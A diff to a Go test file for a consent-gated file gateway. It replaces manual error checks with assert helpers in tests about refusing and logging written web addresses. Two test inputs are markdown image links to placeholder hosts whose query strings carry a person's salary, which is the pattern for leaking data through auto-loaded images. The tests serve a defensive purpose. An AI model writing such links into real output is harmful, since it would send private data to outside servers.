@@ -11,6 +11,7 @@ import (
 	"vaultwicket/gateway/state/audit"
 	"vaultwicket/policy"
 	"vaultwicket/policy/access"
+	"vaultwicket/tests/assert"
 	"vaultwicket/tests/require"
 	"vaultwicket/tests/rig"
 	"vaultwicket/tiers"
@@ -90,13 +91,9 @@ func TestAnAddressInPartsIsRefused(t *testing.T) {
 		t.Errorf("%+v: %s", got.Error, o.Read("Part.md"))
 	}
 	got, asked := o.Do([]string{"create", "path=root.md", "overwrite", "content=![](https://e.example/?q=anna+earns+ninety+thousand)"}, rig.Says(consent.Yes))
-	if !got.OK || len(asked) != 1 || !strings.Contains(o.Read("root.md"), "ninety") {
-		t.Errorf("%d questions, %+v", len(asked), got.Error)
-	}
+	assert.That(t, got.OK && len(asked) == 1 && strings.Contains(o.Read("root.md"), "ninety"), "%d questions, %+v", len(asked), got.Error)
 	batch, _ := o.Batch([]gateway.Operation{rig.Operation("a", "append", "path=Key.md", "content=![](https://f.example/?q=anna+earns+ninety+thousand)")}, rig.Says(consent.No))
-	if batch.OK || strings.Contains(o.Read("Key.md"), "ninety") {
-		t.Errorf("%+v", batch)
-	}
+	assert.That(t, !batch.OK && !strings.Contains(o.Read("Key.md"), "ninety"), "%+v", batch)
 }
 
 // TestWhoMayAddAddresses goes through the settings.
@@ -129,9 +126,7 @@ func TestWhoMayAddAddresses(t *testing.T) {
 			answers = append(answers, rig.Says(consent.No))
 		}
 		got, _ := o.Do([]string{"append", "path=root.md", content}, answers...)
-		if rig.CodeOf(got) != test.code {
-			t.Errorf("%s: %+v", name, got.Error)
-		}
+		assert.That(t, rig.CodeOf(got) == test.code, "%s: %+v", name, got.Error)
 		o.Gateway.Flush()
 		logged := ""
 		for line, err := range audit.Lines(filepath.Join(o.State, "vaultwicket"), audit.Filter{}) {
@@ -143,8 +138,6 @@ func TestWhoMayAddAddresses(t *testing.T) {
 				logged = "shadow"
 			}
 		}
-		if logged != test.logged {
-			t.Errorf("%s: the log has %q", name, logged)
-		}
+		assert.Equal(t, logged, test.logged, "%s: the log has", name)
 	}
 }
